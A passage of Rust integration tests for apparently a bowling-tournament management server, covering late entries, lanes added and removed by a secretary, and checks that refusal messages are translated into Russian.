            unsaid.push(format!("{what}: {}", v["error"]));
        }
        for p in v["problems"].as_array().into_iter().flatten() {
            let m = p["message_ru"].as_str().unwrap_or("");
            if m.is_empty() || placeholder(m) || !cyrillic(m) {
                unsaid.push(format!("{what}: problem {}", p["message"]));
            }
        }
        // The same asked in English: no Russian added.
        let english: Vec<_> = headers
            .iter()
            .filter(|(k, _)| *k != "Accept-Language")
            .copied()
            .collect();
        let r = c
            .http
            .request(method, path, &english, body.as_bytes())
            .unwrap();
        let v: Value = serde_json::from_slice(&r.body).unwrap_or(Value::Null);
        assert!(
            v.get("error_ru").is_none(),
            "{what}: Russian for an English page: {v}"
        );
    }
    assert!(
        unsaid.is_empty(),
        "not said in Russian:\n{}",
        unsaid.join("\n")
    );
}

/// A B1 bowler entered late (docs/programme.md, "Finals sized from the
/// entries"): taken, and the round robin's block bowls the rounds of its
/// new field (5 games for 5 bowlers, not the 3 the file wrote); the
/// bowler who would make class B1 13 is refused, naming its finals.
#[test]
fn a_late_entry_lengthens_the_round_robin_and_a_thirteenth_is_refused() {
    let dir = temp_dir("late");
    let web = free_port();
    let mut c = Centre::start(&config(&dir, web), web);
    let games = |c: &mut Centre, block: &str| {
        let p = c.get("/api/programme");
        p["blocks"]
            .as_array()
            .unwrap()
            .iter()
            .find(|b| b["id"] == block)
            .map(|b| b["games"].clone())
            .unwrap()
    };
    assert_eq!(games(&mut c, "RR-B1"), 3);
    let (cookie, _) = c.login(SECRETARY_PIN, "");
    let late = |i: usize| json!({ "entry": { "name": format!("Late Bowler {i}"), "class": "B1", "sex": "M", "region": "Tver" } });
    let (status, v) = c.post(Some(&cookie), "/api/entries/add", &late(1));
    assert_eq!(status, 200, "{v}");
    assert_eq!(games(&mut c, "RR-B1"), 5);
    assert_eq!(games(&mut c, "SL1-B1"), 1);
    let finals = c.get("/api/finals");
    assert_eq!(finals["finals"][0]["blocks"][0]["games"], 5, "{finals}");
    assert_eq!(finals["finals"][0]["rounds"].as_array().unwrap().len(), 5);
    for i in 2..=8 {
        let (status, v) = c.post(Some(&cookie), "/api/entries/add", &late(i));
        assert_eq!(status, 200, "{v}");
    }
    assert_eq!(games(&mut c, "RR-B1"), 7);
    let (status, v) = c.post(Some(&cookie), "/api/entries/add", &late(9));
    assert_eq!(status, 400, "{v}");
    assert!(
        v.to_string().contains("class B1 has 13 bowlers"),
        "the finals are named: {v}"
    );
    assert!(entry(&c.get("/api/entries"), "Late Bowler 9").is_none());
}

/// `tests/browser/entries-bowled.mjs` in headless Chromium against a
/// centre whose mirror holds S1 and the B1 round robin: the chief judge's
/// confirmation, a name corrected, a finalist's class refused.
#[test]
fn a_bowled_bowler_is_confirmed_and_renamed_on_the_page_in_a_real_browser() {
    if !support::browser_tools() {
        return;
    }
    let dir = temp_dir("bowled-browser");
    let (mut c, _) = bowled_centre(&dir);
    support::run_browser("entries-bowled.mjs", c.web, SHARED_PIN);
    let v = c.get("/api/entries");
    assert_eq!(entry(&v, "Sergei Volkov").unwrap()["class"], "B3", "{v}");
    assert!(entry(&v, "Iwan Petrow").is_some(), "{v}");
}

/// Lanes added and removed on the page (docs/centre.md, "Lanes added and
/// removed on the page"): by a judge, kept across a restart with who and
/// when, offered to the blocks at once; an added lane's card "never
/// connected"; a lane a block has bowlers on is not removed.
#[test]
fn a_lane_is_added_on_the_page_shows_never_connected_and_is_removed() {
    let dir = temp_dir("lanes");
    let web = free_port();
    let path = config(&dir, web);
    let mut c = Centre::start(&path, web);
    assert!(c.lane(9).is_none());
    let nine = json!({ "lane": 9 });
    let (status, _) = c.post(None, "/api/lanes/add", &nine);
    assert_eq!(status, 401);
    let (cookie, _) = c.login(SECRETARY_PIN, "");
    let (status, v) = c.post(Some(&cookie), "/api/lanes/add", &nine);
    assert_eq!(status, 200, "{v}");
    assert_eq!(v["lanes"], json!([1, 2, 3, 4, 5, 6, 9]));
    let card = c.lane(9).expect("a card for lane 9");
    assert_eq!(card["never_connected"], true, "{card}");
    assert_eq!(card["added"]["by"], SECRETARY, "{card}");
    assert!(
        card["login"].is_null(),
        "an external broker's logins: {card}"
    );
    // The lanes a block may be given.
    assert!(
        c.get("/api/finals")["lanes"]
            .as_array()
            .unwrap()
            .contains(&json!(9))
    );
    for (body, status) in [
        (nine.clone(), 409),
        (json!({ "lane": 0 }), 400),
        (json!({}), 400),
    ] {
        let (got, v) = c.post(Some(&cookie), "/api/lanes/add", &body);
        assert_eq!(got, status, "{body}: {v}");
    }
    // A block with bowlers on lane 9: the lane stays.
    let s2 = |last: u32| {
        json!({ "block": "S2", "lanes": {
            "2": ["Anna Kuznetsova", "Olga Smirnova"], "3": ["Ivan Petrov", "Dmitri Orlov"],
            last.to_string(): ["Sergei Volkov", "Yulia Frolova"] } })
    };
    let (status, v) = c.post(Some(&cookie), "/api/blocks/lanes", &s2(9));
    assert_eq!(status, 200, "{v}");
    let (status, v) = c.post(Some(&cookie), "/api/lanes/remove", &nine);
    assert_eq!(status, 409, "{v}");
    assert_eq!(
        v["error"],
        "lane 9 has bowlers in block(s) S2: move them to another lane first"
    );
    let (status, v) = c.post(Some(&cookie), "/api/blocks/lanes", &s2(4));
    assert_eq!(status, 200, "{v}");
    let (status, v) = c.post(Some(&cookie), "/api/lanes/remove", &nine);
    assert_eq!(status, 200, "{v}");
    assert!(c.lane(9).is_none());
    let (status, _) = c.post(Some(&cookie), "/api/lanes/remove", &nine);
    assert_eq!(status, 404);
    // Kept across a restart, with who and when.
    let (status, v) = c.post(Some(&cookie), "/api/lanes/add", &json!({ "lane": 12 }));
    assert_eq!(status, 200, "{v}");
    c.stop();
    let mut c = Centre::start(&path, web);
    assert_eq!(c.lane(12).expect("lane 12 kept")["never_connected"], true);
    assert!(c.lane(9).is_none());
    let log = std::fs::read_to_string(dir.join("state/lanes-changes.jsonl")).unwrap();
    let changes: Vec<Value> = log
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let what: Vec<(String, u64)> = changes
        .iter()
        .map(|c| {
            (
                c["change"].as_str().unwrap().to_owned(),
                c["lane"].as_u64().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        what,
        [("add".into(), 9), ("remove".into(), 9), ("add".into(), 12)]
    );
    assert!(
        changes
            .iter()
            .all(|c| c["by"] == SECRETARY && c["at"].is_string())
    );
}

/// The same on the page in a real browser (tests/browser/lanes-add.mjs).
#[test]
fn a_lane_is_added_and_removed_on_the_page_in_a_real_browser() {
    if !support::browser_tools() {
        return;
    }
    let dir = temp_dir("lanes-browser");
    let web = free_port();
    let mut c = Centre::start(&config(&dir, web), web);
    support::run_browser("lanes-add.mjs", web, SECRETARY_PIN);
    assert!(c.lane(9).is_none());
    let log = std::fs::read_to_string(dir.join("state/lanes-changes.jsonl")).unwrap();
    assert_eq!(log.lines().count(), 2, "{log}");
}

/// The refusals of the programme's edits, the lanes on the page, a block
/// pushed again, finals confirmed early, a voided game, a bowled bowler's
/// class and a bad CSV parameter, provoked against a real centre whose
/// S1 and B1 round robin have games: each said in Russian to a Russian
/// page, with no part left unsaid, and a change's lines to confirm in
/// Russian too (`confirm_ru`).
#[test]
fn the_programmes_lanes_blocks_and_bowled_bowlers_refusals_are_said_in_russian() {
    let dir = temp_dir("russian-bowled");
    let (mut c, _) = bowled_centre(&dir);
    let (secretary, _) = c.login(SECRETARY_PIN, "");
    let (chief, _) = c.login(SHARED_PIN, "Irina Orlova");
    let j = "application/json";
    // Ivan Petrov's name corrected: the name he bowled under is his.
    let fix = json!({ "name": "Ivan Petrov", "entry": { "name": "Iwan Petrow", "class": "B1", "sex": "M", "region": "Moscow", "team": "Moscow" } });
    let (status, v) = c.post(Some(&secretary), "/api/entries/edit", &fix);
    assert_eq!(status, 200, "{v}");
    let dmitri = |name: &str| json!({"name": name, "class": "B1", "sex": "M", "region": "Kazan", "team": "Tatarstan"});
    let s1 = json!({"op": "edit", "id": "S1", "event": "doubles", "games": 3});
    let void = |v: Value| ("/api/games/void", v);
    let early = json!({"block": "SL1-B1", "lanes": {"8": ["Anna Kuznetsova", "Olga Smirnova"]}});
    let with = |v: &Value, k: &str, x: Value| {
        let mut v = v.clone();
        v[k] = x;
        v
    };
    // (what, path, body, the chief's cookie, what the English says)
    let asks: Vec<(&str, (&str, Value), bool, &str)> = vec![
        (
            "a bowled block's games",
            ("/api/programme/block", s1.clone()),
            true,
            "its event and games cannot change",
        ),
        (
            "a bowled block deleted",
            ("/api/programme/block", json!({"op": "delete", "id": "S1"})),
            true,
            "cannot be deleted",
        ),
        (
            "an event with bowled blocks deleted",
            (
                "/api/programme/event",
                json!({"op": "delete", "id": "singles"}),
            ),
            true,
            "cannot be deleted",
        ),
        (
            "a block twice",
            (
                "/api/programme/block",
                json!({"op": "add", "id": "S1", "event": "singles", "games": 3, "day": 1}),
            ),
            true,
            "there is already",
        ),
        (
            "no such block",
            (
                "/api/programme/block",
                json!({"op": "edit", "id": "NOPE", "games": 3}),
            ),
            true,
            "there is no block",
        ),
        (
            "no such finals",
            (
                "/api/programme/finals",
                json!({"op": "delete", "category": "B3"}),
            ),
            true,
            "there is no the finals",
        ),
        (
            "a bad op",
            ("/api/programme/block", json!({"op": "move", "id": "S1"})),
            true,
            "add, edit or delete",
        ),
        (
            "not a change",
            ("/api/programme/block", json!([1])),
            true,
            "a change is",
        ),
        (
            "bad fields",
            (
                "/api/programme/block",
                json!({"op": "add", "id": "", "event": 5, "games": "many"}),
            ),
            true,
            "is not a whole number",
        ),
        (
            "bad teams",
            (
                "/api/programme/event",
                json!({"op": "add", "id": "trios", "kind": "trios", "teams": 5}),
            ),
            true,
            "each team's name",
        ),
        (
            "bad step-ladder",
            (
                "/api/programme/finals",
                json!({"op": "add", "category": "B2", "round_robin": "S2", "step_ladder": "x"}),
            ),
            true,
            "a list of names",
        ),
        (
            "finals of no category",
            (
                "/api/programme/finals",
                json!({"op": "add", "category": "B4", "round_robin": "S2", "step_ladder": ["S1", "D1"]}),
            ),
            true,
            "there is no category",
        ),
        (
            "finals without their step-ladder",
            (
                "/api/programme/finals",
                json!({"op": "add", "category": "B4", "round_robin": "S2"}),
            ),
            true,
            "missing field",
        ),
        (
            "no such part",
            ("/api/programme/teams", json!({"op": "add"})),
            true,
            "change an event, a block or the finals",
        ),
        (
            "a lane unnamed",
            ("/api/lanes/add", json!({})),
            false,
            "name the lane",
        ),
        (
            "a lane not a number",
            ("/api/lanes/add", json!({"lane": 0})),
            false,
            "is not a lane number",
        ),
        (
            "a lane twice",
            ("/api/lanes/add", json!({"lane": 2})),
            false,
            "is already a lane",
        ),
        (
            "no such lane",
            ("/api/lanes/remove", json!({"lane": 99})),
            false,
            "is not a lane of the competition",
        ),
        (
            "a lane with bowlers",
            ("/api/lanes/remove", json!({"lane": 3})),
            false,
            "has bowlers in block(s)",
        ),
        (
            "a bowled block pushed again",
            ("/api/push", json!({"block": "S1"})),
            false,
            "has begun",
        ),
        (
            "pushed again without a reason",
            ("/api/push", json!({"block": "S1", "again": true})),
            false,
            "say why the block is pushed again",
        ),
        (
            "finals before the preliminaries",
            ("/api/blocks/lanes", early.clone()),
            false,
            "are not complete",
        ),
        (
            "early by a secretary",
            ("/api/blocks/lanes", with(&early, "early", json!(true))),
            false,
            "only the chief judge",
        ),
        (
            "early without a reason",
            ("/api/blocks/lanes", with(&early, "early", json!(true))),
            true,
            "say why the finals are confirmed",
        ),
        (
            "early with a bad draw",
            (
                "/api/blocks/lanes",
                with(
                    &with(
                        &with(&early, "early", json!(true)),
                        "reason",
                        json!("a late start"),
                    ),
                    "draw",
                    json!("x"),
                ),
            ),
            true,
            "draw:",
        ),
        (
            "a void by a secretary",
            void(
                json!({"block": "S1", "lane": 1, "name": "Anna Kuznetsova", "game": 1, "reason": "x"}),
            ),
            false,
            "may void a game",
        ),
        (
            "a void of nothing",
            void(json!({"block": "S1"})),
            true,
            "void a game:",
        ),
        (
            "a void without a reason",
            void(json!({"block": "S1", "lane": 1, "name": "Anna Kuznetsova", "game": 1})),
            true,
            "say why the game does not count",
        ),
        (
            "a void of no journal",
            void(
                json!({"block": "S1", "lane": 5, "name": "Anna Kuznetsova", "game": 1, "reason": "x"}),
            ),
            true,
            "has no journal of block",
        ),
        (
            "a void of no game",
            void(
                json!({"block": "S1", "lane": 1, "name": "Anna Kuznetsova", "game": 4, "reason": "x"}),
            ),
            true,
            "has no game 4",
        ),
        (
            "a bowled class by a secretary",
            ("/api/entries/edit", edit("Sergei Volkov", "B3", true)),
            false,
            "only the chief judge changes",
        ),
        (
            "a bowled class unconfirmed",
            ("/api/entries/edit", edit("Sergei Volkov", "B3", false)),
            true,
            "repeat it with",
        ),
        (
            "a bowled sex unconfirmed",
            ("/api/entries/edit", {
                let mut e = edit("Yulia Frolova", "B2", false);
                e["entry"]["sex"] = "M".into();
                e["entry"]["region"] = "Tula".into();
                e["entry"]["team"] = Value::Null;
                e
            }),
            true,
            "sex F → M",
        ),
        (
            "a finalist's class",
            ("/api/entries/edit", edit("Anna Kuznetsova", "B2", true)),
            true,
            "have started",
        ),
        (
            "a rename to a name bowled under",
            (
                "/api/entries/edit",
                json!({"name": "Dmitri Orlov", "entry": dmitri("Ivan Petrov")}),
            ),
            true,
            "its games are",
        ),
        (
            "an entry of a name bowled under",
            ("/api/entries/add", json!({"entry": dmitri("Ivan Petrov")})),
            true,
            "enter it as",
        ),
    ];
    let placeholder = |s: &str| (1..=9).any(|n| s.contains(&format!("{{{n}}}")));
    let cyrillic = |s: &str| {
        s.chars()
            .any(|ch| ('а'..='я').contains(&ch.to_lowercase().next().unwrap_or(ch)))
    };
    // English words the catalogue says: none may be left in the Russian.
    let english = [
        " the ",
        " is ",
        " has ",
        " not ",
        " cannot ",
        " and joins",
        " leaves ",
    ];
    let unsaid_in = |s: &str| {
        s.is_empty() || placeholder(s) || !cyrillic(s) || english.iter().any(|w| s.contains(w))
    };
    let mut unsaid = Vec::new();
    let mut ask = |what: &str, path: &str, body: &str, cookie: &str, kind: &str| {
        let headers = [
            ("Content-Type", kind),
            ("Accept-Language", "ru"),
            ("Cookie", cookie),
        ];
        let r = c
            .http
            .request("POST", path, &headers, body.as_bytes())
            .unwrap();
        let v: Value = serde_json::from_slice(&r.body).unwrap_or(Value::Null);
        assert!(r.status >= 400, "{what}: {} {v}", r.status);
        v
    };
    let check = |what: &str, v: &Value, unsaid: &mut Vec<String>| {
        let ru = v["error_ru"].as_str().unwrap_or("");
        if unsaid_in(ru) {
            unsaid.push(format!("{what}: {} → {ru:?}", v["error"]));
        }
        for p in v["problems"].as_array().into_iter().flatten() {
            let m = p["message_ru"].as_str().unwrap_or("");
            if unsaid_in(m) {
                unsaid.push(format!("{what}: problem {} → {m:?}", p["message"]));
            }
        }
        for (en, ru) in v["confirm"].as_array().into_iter().flatten().zip(
            v["confirm_ru"]
                .as_array()
                .into_iter()
                .flatten()
                .chain(std::iter::repeat(&Value::Null)),
        ) {
            if unsaid_in(ru.as_str().unwrap_or("")) {
                unsaid.push(format!("{what}: to confirm {en} → {ru}"));
            }
        }
    };
    for (what, (path, body), by_chief, says) in &asks {
        let cookie = if *by_chief { &chief } else { &secretary };
        let v = ask(what, path, &body.to_string(), cookie, j);
        assert!(
            v.to_string().contains(says),
            "{what}: not the refusal meant: {v}"
        );
        check(what, &v, &mut unsaid);
    }
    let v = ask(
        "a bad CSV parameter",
        "/api/entries/import?mood=1",
        "",
        &chief,
        "text/csv",
    );
    assert!(v.to_string().contains("is not a parameter"), "{v}");
    check("a bad CSV parameter", &v, &mut unsaid);
    assert!(
        unsaid.is_empty(),
        "not said in Russian:\n{}",
        unsaid.join("\n")
    );
}
